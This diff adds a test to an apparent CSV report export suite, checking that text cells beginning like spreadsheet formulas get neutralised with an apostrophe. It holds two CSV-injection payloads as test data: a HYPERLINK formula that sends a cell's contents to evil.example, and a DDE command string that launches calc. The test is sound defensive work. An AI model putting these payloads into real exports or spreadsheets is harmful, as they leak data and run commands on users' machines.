@@ -87,4 +87,26 @@ describe('GET /api/reports/progress.csv', () => {
     expect(res.body.split('\r\n').filter(Boolean)).toHaveLength(2);
     expect(res.headers['content-disposition']).toContain("filename*=UTF-8''progression-Mairie-de-Valbrune.csv");
   });
+
+  it('[200] neutralises every text cell that starts like a formula, even followed by a line break', async () => {
+    const db = ctx.database.db;
+    const [marc] = await db.select().from(learners).where(eq(learners.email, 'marc@cc-lacs.example'));
+    const hostile = '=HYPERLINK("http://evil.example/?x="&C2,"Cliquez")\nsuite';
+    try {
+      await db.update(learners).set({ name: hostile, organisation: '@SUM(1+1)*cmd|\' /C calc\'!A0' }).where(eq(learners.id, marc!.id));
+      const res = await ctx.app.inject({ url: '/api/reports/progress.csv', headers });
+      const { data } = Papa.parse<string[]>(res.rawPayload.toString('utf8').slice(1).trimEnd(), { delimiter: ';', newline: '\r\n' });
+      const [header, ...rows] = data;
+      const row = rows.find((r) => r[1] === 'marc@cc-lacs.example')!;
+      expect(row[0]).toBe(`'${hostile}`);
+      expect(row[2]).toBe('\'@SUM(1+1)*cmd|\' /C calc\'!A0');
+      // Legitimate values stay as they were: names, e-mails, labels, numbers.
+      const helene = rows.find((r) => r[1] === 'helene@valbrune.example')!;
+      expect(helene[0]).toBe('Hélène Lefèvre');
+      expect(helene[header!.indexOf('Questionnaire — Atelier 1 (%)')]).toBe('100');
+      expect(data.flat().filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
+    } finally {
+      await db.update(learners).set({ name: marc!.name, organisation: marc!.organisation }).where(eq(learners.id, marc!.id));
+    }
+  });
 });
